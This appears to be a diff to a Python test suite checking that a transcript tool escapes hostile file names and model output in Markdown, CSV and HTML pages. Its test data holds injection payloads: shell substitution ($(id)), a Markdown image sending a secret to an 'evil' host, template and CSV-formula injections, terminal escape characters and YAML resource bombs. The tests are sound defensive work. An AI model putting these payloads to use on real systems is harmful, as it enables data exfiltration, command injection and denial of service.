@@ -23,7 +23,7 @@ from runner.answers.analyzer import Material
 from runner.answers.markdown import answer_markdown, fields_markdown, md
 from runner.answers.shape import Strict, answer_shape, parse_answer
 from runner.base.errors import AnswerError, ConfigError, OutputError
-from runner.base.text import to_terminal
+from runner.base.text import to_safe_text, to_terminal
 from runner.config.schema import validate
 from runner.job.build import resolve
 from runner.job.job import MAX_SPEAKERS, Job
@@ -32,7 +32,7 @@ from runner.record.metadata import describe_run
 from runner.record.run_directory import RunDirectory, new_run_path, read_transcript_file
 from runner.run.cli import check_arguments
 from runner.transcript.model import Transcript
-from runner.transcript.read import parse_transcript, read_transcript
+from tests.helpers.reading import parse_transcript, read_transcript
 
 ROOT = Path(__file__).resolve().parents[2]
 TEMPLATE = "${oc.env:HOME} {{ 7*7 }} {% for x in y %} {# no #} {0} {name!r} %s $HOME `id` $(id)"
@@ -213,6 +213,30 @@ def test_no_name_leads_out_of_the_directory_and_no_two_runs_meet(tmp_path: Path)
         assert not path.name.startswith(("-", "."))
 
 
+def test_names_of_files_show_nothing_hidden_and_compute_nothing(tmp_path: Path) -> None:
+    folder = tmp_path / "talks"
+    folder.mkdir()
+    for name in ("a\x1b[31mr\x07\u202eed\u200b", "b\nc\u2028d", "=1+1;@x", "%%$x$^S0002", "---"):
+        (folder / f"{name}.txt").write_text("Ann: We should go, because it is late.\n")
+    (folder / "bad\x1b[2J\nx.txt").write_bytes(b"\xff\xfe\x00")
+    done = colloquy(
+        *("transcript=talks", "output.console=plain", "output.pages=obsidian"), cwd=tmp_path
+    )
+    files = [p for p in (tmp_path / "outputs").rglob("*.*") if p.suffix in (".md", ".csv", ".html")]
+    texts = [done.stderr, *(p.read_text().replace("\r\n", "\n") for p in files)]
+    (results,) = (p.read_text() for p in files if p.name == "results.csv")
+    pages = "".join(p.read_text() for p in files if p.name == "transcript.md")
+
+    assert 3 == done.returncode
+    for text in texts:
+        hidden = [c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")]
+        assert {"\n"} >= set(hidden)
+    assert 1 + 6 == results.count("\n")
+    assert 1 == results.count('\n"\'=1+1;@x.txt",') == results.count("\n'---.txt,")
+    assert "# %\\%\\$x\\$\\^S0002\n" in pages
+    assert "# a\\[31mred\n" in pages
+
+
 def test_files_whose_names_differ_in_form_only_stay_two(tmp_path: Path) -> None:
     twins = [unicodedata.normalize(form, "caf\u00e9") for form in ("NFC", "NFD")]
     for twin in twins:
@@ -251,7 +275,9 @@ def test_a_planted_link_is_not_written_through(tmp_path: Path) -> None:
 # --- what pages hold
 
 OUR_LINK = re.compile(r"\[(S\d{4})\]\((?:\.\./)*transcript\.md#s\d{4}\)")
-LIVE = re.compile(r"(?i)(?<!\\)://|www\.|!\[|(?<!\\)\]\(|(?<!\\)@")
+LIVE = re.compile(
+    r"(?i)(?<!\\)://|www\.|!\[|(?<!\\)\]\(|(?<!\\)@|%%|==|::|\{\{|\{%|\\?[$^](?<!\\.)"
+)
 
 EVIL = [
     "![x](https://evil/?q=secret)",
@@ -273,6 +299,17 @@ EVIL = [
     "+ one",
     "`code` **bold** _it_ # x",
     "$$x$$ \\(y\\) \\",
+    "$x$ and $`y`$ cost $5",
+    "%% hidden %% and %%%% 5 %",
+    "as said ^S0002",
+    "^S0002 ^[a note] x^2",
+    "==bright== a == b",
+    "[[transcript#^S0001|S0001]] ![[transcript]]",
+    "due:: today [due:: today] std::vector",
+    "{{ site.secret }} {% include x %} <% tp.file.title %>",
+    "--- title: x ---",
+    "+++",
+    "a\u202eb\u200bc\u0007d",
 ]
 
 
@@ -281,8 +318,8 @@ def test_a_page_shows_what_a_model_wrote_and_does_nothing_of_it(text: str) -> No
     shown = md(text)
     escaped = shown.replace("\\\\", "")
 
-    assert " ".join(text.split()) == unescaped(shown)
-    for mark in ("[", "]", "<", ">", "`", "*", "_", "|", "#", "~", "@"):
+    assert " ".join(to_safe_text(text).split()) == unescaped(shown)
+    for mark in ("[", "]", "<", ">", "`", "*", "_", "|", "#", "~", "@", "$", "^"):
         assert escaped.count(mark) == escaped.count(f"\\{mark}")
     assert [] == LIVE.findall(shown)
     assert not any(shown.startswith(start) for start in ("- ", "+ ", "1. ", "--", "==", "~~~"))
@@ -307,7 +344,7 @@ def test_no_part_of_an_answer_gets_into_its_page_unescaped(text: str) -> None:
     ]
     fields = {"plain": text, "many": [text], "rows": rows, "odd": {text: text}, text: text}
     page = answer_markdown("toy", {"insights": [insight], "structured_data": fields})
-    words = " ".join(text.split())
+    words = " ".join(to_safe_text(text).split())
 
     assert "<" not in page.replace("\\<", "")
     assert [] == LIVE.findall(page)
@@ -411,7 +448,7 @@ BOMBS = {
     "itself": "a: &a [*a]\n",
     "merged": "a0: &a0 {k: x}\n"
     + "".join(f"a{n}: &a{n} {{l: *a{n - 1}, r: *a{n - 1}}}\n" for n in range(1, 40)),
-    "many": "a: &a x\nb: [" + "*a, " * 101 + "]\n",
+    "many": "a: &a [" + "x, " * 1000 + "]\nb: [" + "*a, " * 101 + "]\n",
     "deep": "a: " + "[" * 100_000,
     "deep dashes": "- " * 100_000,
     "large": "a: " + "x" * 1_000_001,
